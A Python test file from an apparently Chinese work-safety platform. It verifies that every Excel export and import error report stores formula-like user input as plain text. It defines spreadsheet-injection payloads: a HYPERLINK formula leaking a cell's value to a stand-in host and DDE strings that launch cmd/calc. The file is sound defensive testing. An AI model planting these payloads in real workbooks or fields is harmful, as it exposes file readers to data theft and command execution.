"""No Excel file the platform hands out runs a formula someone planted (issue 9, item 3).

An enterprise user can type ``=HYPERLINK("http://…?"&C2,"张三")`` as its own safety
manager's name; a hazard title or an alarm note can hold the same. openpyxl writes a string
starting with "=" as a live formula, and the official who opens the ledger runs it. Every
writer goes through ``core/excel.py``, which stores such strings as text.

Each export below gets formula-like strings planted through the services, is downloaded as
its user downloads it, and is checked cell by cell: no formula anywhere, every planted
string there verbatim as text. The guards at the top fail when an export appears that this
table does not cover (a URL named ``*_export``/``*_template`` or serving ``.xlsx``, a job
kind, or a module that writes a workbook).
"""

import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from io import BytesIO
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from anjian.core import jobs
from anjian.core.models import BackgroundJob, JobStatus
from anjian.web.tests import access_hazchem_duties as duties
from anjian.web.tests import export_emergency as emergency
from anjian.web.tests import export_hazchem as hazchem
from anjian.web.tests import export_specialwork as specialwork
from anjian.web.tests.route_walk import iter_routes
from testsupport import world

FORMULA = '=HYPERLINK("http://x.example/?"&C2,"张三")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-1+cmd|' /C calc'!A0"

ROOT = Path(__file__).resolve().parents[2]  # the anjian package


@dataclass(frozen=True)
class Export:
    actor: str
    plant: Callable[[], list[str]]  # plants records, returns the strings that must show
    url: Callable[[], str] = lambda: ""  # when the URL needs the planted record


def official():
    return world.actor("district_official")


# --- planting, through the services -----------------------------------------------------------


def plant_enterprise() -> list[str]:
    from anjian.enterprises.services import enterprise_update

    enterprise = world.enterprise("yinhang_chemical")
    # The enterprise's own safety manager plants one; an official's edit another.
    enterprise = enterprise_update(
        by=world.actor("enterprise_manager"),
        enterprise_id=enterprise.pk,
        data={"safety_manager_name": FORMULA, "principal_name": PLUS},
        expected_version=enterprise.version,
    )
    enterprise_update(
        by=official(),
        enterprise_id=enterprise.pk,
        data={"address": AT},
        expected_version=enterprise.version,
    )
    return [FORMULA, PLUS, AT]


def plant_street() -> list[str]:
    from anjian.regions.models import Region

    # Reference data (GB/T 2260, loaded by the regions loader; no service writes names).
    Region.objects.filter(code=world.YINHANG).update(name=FORMULA)
    return [FORMULA]


def plant_hazard() -> list[str]:
    from anjian.hazards.tests.factories import report

    report(by=world.actor("enterprise_manager"), title=FORMULA, location=PLUS, description=AT)
    return [FORMULA, PLUS, AT]


def plant_measure() -> list[str]:
    from anjian.hazards.services import measure_create
    from anjian.regions.models import Region

    measure_create(
        by=official(),
        data={
            "region": Region.objects.get(code=world.YANGPU),
            "problem": FORMULA,
            "measure": AT,
            "lead_unit": PLUS,
            "partner_units": MINUS,
            "deadline": timezone.localdate() + timedelta(days=30),
        },
    )
    return [FORMULA, AT, PLUS, MINUS]


def plant_alarm() -> list[str]:
    from anjian.monitoring import ingest
    from anjian.monitoring.choices import AlarmCause
    from anjian.monitoring.models import Alarm
    from anjian.monitoring.services import alarm_dispose
    from anjian.monitoring.tests.factories import device, group, now_ish, send, threshold

    ingest.registry.clear()
    tank = device("TK-F1", name=AT)
    threshold(tank, value=8.0, hysteresis=0.5)
    send(tank, group(now_ish() - timedelta(minutes=2), level=9.1))
    alarm = Alarm.objects.get(device=tank)
    alarm_dispose(
        by=world.actor("enterprise_manager"),
        alarm_id=alarm.pk,
        expected_version=alarm.version,
        cause=AlarmCause.values[0],
        note=FORMULA,
    )
    ingest.registry.clear()
    return [AT, FORMULA]


def plant_risk_point() -> list[str]:
    from anjian.risks.tests.factories import make_point

    make_point(
        world.enterprise("yinhang_chemical"),
        name=FORMULA,
        location=AT,
        owner_name=PLUS,
        assess=("lec", {"L": 3, "E": 6, "C": 15}),
    )
    return [FORMULA, AT, PLUS]


def plant_place() -> list[str]:
    from anjian.enterprises.models import PlaceKind, PublicPlace
    from anjian.regions.models import Industry, Region

    PublicPlace.objects.create(
        kind=PlaceKind.FACADE,
        name=FORMULA,
        address=AT,
        contact_name=PLUS,
        street=Region.objects.get(code=world.YINHANG),
        industry=Industry.objects.get(code="buildings"),
    )
    return [FORMULA, AT, PLUS]


_document: list = []


def plant_standard() -> list[str]:
    from anjian.hazards.library.loader import import_payload, parse_data
    from anjian.hazards.models import StandardDocument
    from anjian.hazards.tests.library_support import TEST_CODE, edition

    data = edition(note=PLUS)
    data["clauses"][0].update(text=FORMULA, keywords=AT)
    import_payload(parse_data(data), by=world.actor("admin"))
    _document[:] = [StandardDocument.objects.get(code=TEST_CODE)]
    return [FORMULA, AT, PLUS]


_plan: list = []


def plant_plan_entry() -> list[str]:
    from anjian.inspections.plan_models import PlanEntry
    from anjian.inspections.plans import services as plan_services
    from anjian.regions.models import Department

    plan = plan_services.plan_propose(
        world.actor("admin"), department=Department.objects.get(name="杨浦区应急管理局"), year=2031
    )
    PlanEntry.objects.filter(pk=plan.entries.order_by("pk").first().pk).update(reason=FORMULA)
    _plan[:] = [plan]
    return [FORMULA]


def plant_accident() -> list[str]:
    from anjian.accidents.choices import AccidentType, Category
    from anjian.accidents.services import accident_report

    accident_report(
        by=official(),
        region=world.YINHANG,
        unit_name=FORMULA,
        occurred_at=timezone.now() - timedelta(minutes=30),
        place=AT,
        accident_type=AccidentType.OTHER,
        category=Category.TRADE_OTHER,
        summary=PLUS,
    )
    return [FORMULA, AT, PLUS]


def plant_indicator_plan() -> list[str]:
    """A plan of 杨浦区 covering this year: its name is what a target's basis shows."""
    from anjian.analytics import services as indicator_services

    this_year = timezone.localdate().year
    plan = indicator_services.plan_save(
        official(),
        region_id=world.YANGPU,
        name=FORMULA,
        baseline_year=this_year - 1,
        target_year=this_year + 4,
    )
    indicator_services.target_save(
        official(), plan_id=plan.pk, indicator="deaths", comparison="at_most", value="10"
    )
    return [FORMULA]


def plant_denominator() -> list[str]:
    from anjian.analytics import services as indicator_services

    for year, source in ((2023, FORMULA), (2024, AT)):
        indicator_services.denominator_save(
            official(),
            region_id=world.YANGPU,
            year=year,
            gdp="2500",
            industry_trade_employees=None,
            motor_vehicles=None,
            source=source,
        )
    return [FORMULA, AT]


def nothing() -> list[str]:
    return []  # a template of fixed texts and choices: still checked for formulas


EXPORTS = {
    # The accident list as filtered (RegistryExport: written through core/registry.py).
    "accidents:accident_export": Export("district_official", plant_accident),
    # 指标监测 as shown (plan names as the targets' basis) and the denominators' ledger.
    "analytics:indicators_export": Export("district_official", plant_indicator_plan),
    "analytics:denominator_export": Export("district_official", plant_denominator),
    "analytics:denominator_import_template": Export("district_official", nothing),
    "enterprises:enterprise_export": Export("district_official", plant_enterprise),
    "enterprises:enterprise_import_template": Export("district_official", plant_street),
    "enterprises:place_export": Export("district_official", plant_place),
    "hazards:hazard_export": Export("district_official", plant_hazard),
    # Figures and labels only (region and industry names): still checked for formulas.
    "hazards:clearing_figures_export": Export("district_official", nothing),
    "hazards:measure_export": Export("district_official", plant_measure),
    "inspections:plan_export": Export(
        "district_official",
        plant_plan_entry,
        url=lambda: reverse("inspections:plan_export", args=[_plan[0].pk]),
    ),
    # 执法统计: figures and department/region names only, still checked for formulas.
    "inspections:figures_export": Export("district_official", nothing),
    "monitoring:alarm_export": Export(
        "district_official",
        plant_alarm,
        url=lambda: reverse("monitoring:alarm_export") + "?state=disposed",
    ),
    "risks:risk_point_export": Export("district_official", plant_risk_point),
    "risks:risk_register_export": Export("district_official", plant_risk_point),
    "standards:document_export": Export(
        "district_official",
        plant_standard,
        url=lambda: reverse("standards:document_export", args=[_document[0].pk]),
    ),
    "standards:import_template": Export("admin", nothing),
    # 应急准备与处置: each registry's list as filtered (RegistryExport) — the resources' with
    # resource_exports' columns — and the import template of a kind (all six below).
    "emergency:plan_export": Export("district_official", emergency.plant_plan),
    "emergency:drill_export": Export("district_official", emergency.plant_drill),
    # 演练完成情况 as shown: a unit's name (its rows are the units with a plan in force).
    "emergency:drill_compliance_export": Export("district_official", emergency.plant_unit),
    "emergency:team_export": Export("district_official", emergency.plant_team),
    "emergency:warehouse_export": Export("district_official", emergency.plant_warehouse),
    "emergency:supply_export": Export("district_official", emergency.plant_supply),
    # 出入库台账 of a warehouse and of a line (the planted movement's).
    "emergency:warehouse_ledger": Export(
        "district_official",
        emergency.plant_movements,
        url=lambda: emergency.ledger_url("emergency:warehouse_ledger"),
    ),
    "emergency:supply_ledger": Export(
        "district_official",
        emergency.plant_movements,
        url=lambda: emergency.ledger_url("emergency:supply_ledger"),
    ),
    "emergency:equipment_export": Export("district_official", emergency.plant_equipment),
    "emergency:shelter_export": Export("district_official", emergency.plant_shelter),
    "emergency:expert_export": Export("district_official", emergency.plant_expert),
    "emergency:incident_export": Export("district_official", emergency.plant_incident),
    "emergency:resource_import_template": Export(
        "district_official",
        nothing,
        url=lambda: reverse("emergency:resource_import_template", args=["team"]),
    ),
    "emergency:plan_import_template": Export("district_official", nothing),
    "emergency:drill_import_template": Export("district_official", nothing),
    # 重大危险源台账 as filtered (RegistryExport): the unit's name.
    "hazchem:source_export": Export("district_official", hazchem.plant_source),
    "hazchem:unit_export": Export("district_official", hazchem.plant_source),
    # 特殊作业票台账 as filtered (place, content, guardian); its figures: labels and counts.
    "specialwork:permit_export": Export("district_official", specialwork.plant_permit),
    "specialwork:figures_export": Export("district_official", nothing),
    # The inventories in the import's columns (the planted unit's name); the two templates.
    "hazchem:inventory_export": Export("district_official", hazchem.plant_source),
    "hazchem:inventory_import_template": Export("district_official", nothing),
    "hazchem:catalogue_import_template": Export("admin", nothing),
    # 重大危险源统计: region and industry names and counts only, no text a user typed.
    "hazchem:source_figures_export": Export("district_official", nothing),
    # 包保履职 as shown (enterprise and street names, counts); its drill-down list (the
    # unit's name, the holders' names and phones).
    "hazchem:duty_figures_export": Export("district_official", duties.plant_duties_figure),
    "hazchem:duty_figures_sources_export": Export("district_official", duties.plant_duties),
    "hazchem:duty_checks_export": Export("district_official", duties.plant_duty_checks),
    # 重大危险源在线监测率 as shown and its list (the unit's name of an uncovered source).
    "hazchem:coverage_export": Export("district_official", hazchem.plant_source),
}
EMERGENCY_IMPORTS = ("team", "warehouse", "supply", "equipment", "shelter", "expert")
# Each emergency import page: (URL name, its arguments).
EMERGENCY_IMPORT_PAGES = {
    **{kind: ("emergency:resource_import", [kind]) for kind in EMERGENCY_IMPORTS},
    "plan": ("emergency:plan_import", []),
    "drill": ("emergency:drill_import", []),
}
# Job kinds whose result file is checked below (a job kind that writes a file must be here).
JOB_OUTPUTS = {
    "alarm_export",
    "enterprise_export",
    "enterprise_import",
    "hazard_export",
    "monthly_report",  # 区情月报's annex (test_the_monthly_report_annex_…)
    "risk_point_export",
    "risk_register_export",
    # 应急资源 imports: the error report (test_an_emergency_import_error_report_…)
    *(f"emergency_{kind}_import" for kind in EMERGENCY_IMPORT_PAGES),
    # 危险化学品目录 and inventory imports: their error files are checked in
    # hazchem/tests/test_catalogue_import.py and test_inventory_import.py (the same
    # core/excel_import.py as the emergency imports above); the re-evaluation after a
    # catalogue change writes no file.
    "hazchem_catalogue_import",
    "hazchem_inventory_import",
    "hazchem_catalogue_reevaluate",
}
# Modules that may write a workbook, all through core/excel.py (reviewed).
WRITERS = {
    "core/excel.py",
    "core/excel_import.py",  # every row-by-row import's template and error report
    "analytics/monthly/xlsx.py",  # 区情月报's annex (write_tables)
    "analytics/exports.py",  # 指标监测 as shown (write_tables), denominators (write_ledger)
    "analytics/importer.py",  # the denominators' import template (write_template)
    "core/exports.py",  # the ledgers written by background jobs (hazards, risk points, alarms)
    "core/registry.py",  # every registry export and import template (RegistryExport, …)
    "emergency/resource_exports.py",  # the resources' and the stock ledgers (write_ledger)
    "emergency/views_drills.py",  # 演练完成情况 as shown (write_ledger)
    "enterprises/jobs.py",
    "hazards/figures_export.py",  # 动态清零 as shown (write_tables)
    "hazchem/figures_duties.py",  # 包保履职 as shown (write_tables) and its list (write_ledger)
    "hazchem/views_coverage.py",  # 在线监测率 as shown and its list (write_tables)
    "hazards/library/views.py",
    "hazchem/views_figures.py",  # 重大危险源统计 as shown (write_ledger)
    "inspections/figures/export.py",  # 执法统计 as shown (through core.excel)
    "inspections/plans/export.py",  # a plan's units (write_ledger)
    "specialwork/views_figures.py",  # 特殊作业统计 as shown (write_tables)
}


# --- checking a workbook ----------------------------------------------------------------------


def content_of(response) -> bytes:
    assert response.status_code == 200, response
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def assert_no_formula_and_planted_text(content: bytes, planted: list[str]) -> None:
    workbook = load_workbook(BytesIO(content))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    formulas = [f"{c.parent.title}!{c.coordinate}={c.value!r}" for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for c in cells if c.data_type == "s"}
    for value in planted:
        assert value in texts, f"{value!r} is not in the file as text"


# --- the guards: every export is in the table -------------------------------------------------


def discovered_exports() -> set[str]:
    return {
        route.name
        for route in iter_routes(get_resolver().url_patterns)
        if route.name.endswith(("_export", "_template")) or ".xlsx" in route.path
    }


def test_every_excel_download_url_is_covered():
    assert discovered_exports() == set(EXPORTS)


def test_every_job_kind_is_covered():
    assert {kind for kind in jobs.HANDLERS if not kind.startswith("pytest")} == JOB_OUTPUTS


def test_every_module_that_writes_a_workbook_is_reviewed():
    writes = re.compile(r"\b(write_ledger|write_template|write_tables|error_report|Workbook)\(")
    found = {
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if "tests" not in path.parts and "testing" not in path.parts
        if writes.search(path.read_text(encoding="utf-8"))
    }
    assert found == WRITERS
    for module in WRITERS - {"core/excel.py"}:
        assert "Workbook(" not in (ROOT / module).read_text(encoding="utf-8"), module


# --- every export -----------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_planted_formulas_are_exported_as_text(client_for, name, db):
    export = EXPORTS[name]
    planted = export.plant()
    url = export.url() or reverse(name)
    response = client_for(world.actor(export.actor)).get(url)
    assert_no_formula_and_planted_text(content_of(response), planted)


def test_a_large_export_job_writes_planted_formulas_as_text(
    db, client_for, monkeypatch, settings, tmp_path, django_capture_on_commit_callbacks
):
    from anjian.enterprises import exporter

    settings.MEDIA_ROOT = tmp_path
    monkeypatch.setattr(exporter, "SYNC_EXPORT_LIMIT", 0)
    planted = plant_enterprise()
    client = client_for(official())
    with django_capture_on_commit_callbacks(execute=True):
        client.get(reverse("enterprises:enterprise_export"))
    call_command("worker", batch=True, verbosity=0)
    job = BackgroundJob.objects.get(kind="enterprise_export")
    assert job.status == JobStatus.SUCCEEDED
    download = client.get(reverse("core:job_download", args=[job.pk]))
    assert_no_formula_and_planted_text(content_of(download), planted)


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("hazards:hazard_export", "hazard_export"),
        ("monitoring:alarm_export", "alarm_export"),
        ("risks:risk_point_export", "risk_point_export"),
        ("risks:risk_register_export", "risk_register_export"),
    ],
)
def test_an_export_job_writes_planted_formulas_as_text(
    db, client_for, settings, tmp_path, django_capture_on_commit_callbacks, name, kind
):
    settings.MEDIA_ROOT = tmp_path
    settings.EXPORT_SYNC_ROWS = 0  # every export a job
    export = EXPORTS[name]
    planted = export.plant()
    client = client_for(world.actor(export.actor))
    with django_capture_on_commit_callbacks(execute=True):
        assert client.get(export.url() or reverse(name)).status_code == 302
    call_command("worker", batch=True, verbosity=0)
    job = BackgroundJob.objects.get(kind=kind)
    assert job.status == JobStatus.SUCCEEDED
    download = client.get(reverse("core:job_download", args=[job.pk]))
    assert_no_formula_and_planted_text(content_of(download), planted)


def test_the_import_error_report_writes_the_uploaded_formulas_as_text(
    db, client_for, settings, tmp_path, django_capture_on_commit_callbacks
):
    from anjian.enterprises.importer import MODE_VALID
    from anjian.enterprises.ledger import COLUMNS
    from anjian.enterprises.tests.import_support import HEADERS, row
    from testsupport.hostile_xlsx import text_workbook

    settings.MEDIA_ROOT = tmp_path
    client = client_for(official())
    bad = row(1, name=FORMULA, principal_name=AT, address=PLUS, street="不存在街道")
    key = {column.header: column.key for column in COLUMNS}
    cells = ["" if bad[key[h]] is None else str(bad[key[h]]) for h in HEADERS]
    upload = SimpleUploadedFile("企业名单.xlsx", text_workbook(HEADERS, [cells]))
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("enterprises:enterprise_import"), {"file": upload, "mode": MODE_VALID})
    call_command("worker", batch=True, verbosity=0)
    job = BackgroundJob.objects.get(kind="enterprise_import")
    assert job.status == JobStatus.SUCCEEDED and job.output_file
    download = client.get(reverse("core:job_download", args=[job.pk]))
    assert_no_formula_and_planted_text(content_of(download), [FORMULA, AT, PLUS])


def test_the_monthly_report_annex_writes_planted_formulas_as_text(
    db, client_for, settings, tmp_path, django_capture_on_commit_callbacks
):
    from anjian.analytics.report_models import MonthlyReport

    settings.MEDIA_ROOT = tmp_path
    planted = plant_accident()  # the month's records are listed in the annex
    client = client_for(official())
    occurred = timezone.localtime(timezone.now() - timedelta(minutes=30))  # as planted
    month = occurred.strftime("%Y-%m")
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("analytics:report_generate"), {"region": world.YANGPU, "month": month})
    call_command("worker", batch=True, verbosity=0)
    report = MonthlyReport.objects.get()
    assert report.job.status == JobStatus.SUCCEEDED
    download = client.get(reverse("analytics:report_download", args=[report.pk, "xlsx"]))
    assert_no_formula_and_planted_text(content_of(download), planted[:1])


# --- 应急准备与处置 beyond the table ------------------------------------------------------------


@pytest.mark.parametrize("kind", EMERGENCY_IMPORTS)
def test_every_emergency_import_template_is_formula_free(client_for, kind, db):
    url = reverse("emergency:resource_import_template", args=[kind])
    response = client_for(official()).get(url)
    assert_no_formula_and_planted_text(content_of(response), [])


def test_the_ledgers_written_outside_the_pages_keep_planted_formulas_as_text(db):
    from anjian.emergency import resource_exports

    planted = emergency.plant_team()
    target = BytesIO()
    resource_exports.write_resources(target, user=official(), kind="team")
    assert_no_formula_and_planted_text(target.getvalue(), planted)
    planted = emergency.plant_movements()
    target = BytesIO()
    resource_exports.write_movements(target, user=official())
    assert_no_formula_and_planted_text(target.getvalue(), planted)


@pytest.mark.parametrize("kind", EMERGENCY_IMPORT_PAGES)
def test_an_emergency_import_error_report_writes_the_uploaded_formulas_as_text(
    db, client_for, settings, tmp_path, django_capture_on_commit_callbacks, kind
):
    from anjian.core.excel_import import MODE_ALL
    from anjian.emergency import record_import, resource_import
    from testsupport.hostile_xlsx import text_workbook

    settings.MEDIA_ROOT = tmp_path
    client = client_for(official())
    spec = {**resource_import.SPECS, **record_import.SPECS}[kind]
    headers = [c.header for c in spec.columns if c.importable]
    cells = emergency.hostile_row(headers)
    upload = SimpleUploadedFile(f"{kind}.xlsx", text_workbook(headers, [cells]))
    name, args = EMERGENCY_IMPORT_PAGES[kind]
    url = reverse(name, args=args)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(url, {"file": upload, "mode": MODE_ALL})
    call_command("worker", batch=True, verbosity=0)
    job = BackgroundJob.objects.get(kind=f"emergency_{kind}_import")
    assert job.status == JobStatus.SUCCEEDED and job.output_file, job.message
    download = client.get(reverse("core:job_download", args=[job.pk]))
    assert_no_formula_and_planted_text(content_of(download), sorted(set(cells)))
